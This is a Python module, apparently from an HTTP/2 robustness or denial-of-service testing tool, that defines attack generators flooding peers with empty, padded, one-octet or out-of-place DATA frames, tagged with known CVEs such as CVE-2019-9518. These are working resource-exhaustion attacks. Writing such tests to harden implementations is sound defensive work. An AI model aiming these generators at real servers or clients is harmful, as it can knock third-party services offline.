"""DATA frames that carry little or nothing."""

from __future__ import annotations

from itertools import cycle, islice

from . import wire
from .attack import Frames, Role, attack
from .messages import GET, POST, RESPONSE
from .streams import MANY, MANY_STREAMS

BOTH: tuple[Role, ...] = ("server", "client")
EMPTY = "CVE-2019-9518"


def _content(name: str, words: str, piece: bytes, *, cve: str = "", valid: bool = False) -> None:
    """Frames on stream 1, which is open in both roles; a client gets the response first."""

    def to_server() -> Frames:
        while True:
            yield piece

    def to_client() -> Frames:
        yield wire.headers(1, RESPONSE)
        yield from to_server()

    attack(name, words, ("server",), cve=cve, streams=1, valid=valid)(to_server)
    attack(name, words, ("client",), cve=cve, streams=1, valid=valid)(to_client)


_content("data-empty", "empty DATA", wire.data(1), cve=EMPTY)
_content(
    "data-empty-padded",
    "DATA without content, with padding of length 0",
    wire.data(1, pad=0),
    cve=EMPTY,
)
_content("data-padding", "DATA of 255 octets of padding", wire.data(1, pad=255), cve=EMPTY)
_content("data-padding-1", "DATA of one octet of padding", wire.data(1, pad=1), cve=EMPTY)
_content("data-1", "DATA of one octet", wire.data(1, b"x"), cve="RUSTSEC-2026-0258", valid=True)
_content(
    "data-1-padded",
    "DATA of one octet in 255 octets of padding",
    wire.data(1, b"x", pad=255),
    cve="RUSTSEC-2026-0258",
)
_content(
    "data-2-empty",
    "DATA of one octet and empty DATA, alternating",
    wire.data(1, b"x") + wire.data(1),
    cve=EMPTY,
)
_content("data-100", "DATA of a hundred octets", wire.data(1, bytes(100)), cve="RUSTSEC-2026-0258")


@attack(
    "data-empty-streams",
    f"empty DATA on {MANY:,} streams in turn",
    cve=EMPTY,
    streams=MANY,
    own_settings=MANY_STREAMS,
)
def empty_on_streams() -> Frames:
    for stream_id in cycle(range(1, 2 * MANY, 2)):
        yield wire.data(stream_id)


@attack(
    "data-1-streams",
    f"DATA of one octet on {MANY:,} streams in turn",
    streams=MANY,
    own_settings=MANY_STREAMS,
    cve="RUSTSEC-2026-0258",
    valid=True,
)
def octets_on_streams() -> Frames:
    for stream_id in cycle(range(1, 2 * MANY, 2)):
        yield wire.data(stream_id, b"x")


@attack(
    "data-1-windows",
    f"windows of one octet, used up on {MANY:,} streams in turn",
    streams=MANY,
    own_settings=MANY_STREAMS | {wire.INITIAL_WINDOW_SIZE: 1},
)
def used_up_windows() -> Frames:
    for stream_id in cycle(range(1, 2 * MANY, 2)):
        yield wire.data(stream_id, b"x")


@attack("data-empty-requests", "requests with a few empty DATA frames each", cve=EMPTY, batch=350)
def empty_in_requests() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.headers(stream_id, POST) + wire.data(stream_id) * 5
        yield wire.data(stream_id, end=True)


@attack("data-idle", "DATA on streams that were never opened", BOTH)
def data_idle() -> Frames:
    for stream_id in wire.odd_numbers():
        yield wire.data(stream_id, b"x")


@attack("data-above-window", "content above all windows, in frames of 16 KB", streams=1)
def above_window() -> Frames:
    while True:
        yield wire.data(1, bytes(16384))


@attack("data-before-response", "DATA before the response", ("client",), streams=MANY)
def before_response() -> Frames:
    for stream_id in islice(wire.odd_numbers(), MANY):
        yield wire.data(stream_id, b"x")


@attack("data-for-get", "a request that has ended, then content", cve="CVE-2025-8671")
def content_for_get() -> Frames:
    yield wire.headers(1, GET, end=True)
    while True:
        yield wire.data(1, b"x")


@attack(
    "data-for-head", "content in the response to a request that has none", ("client",), streams=MANY
)
def content_for_204() -> Frames:
    for stream_id in islice(wire.odd_numbers(), MANY):
        yield wire.headers(stream_id, wire.indexed(9)) + wire.data(stream_id, b"x")
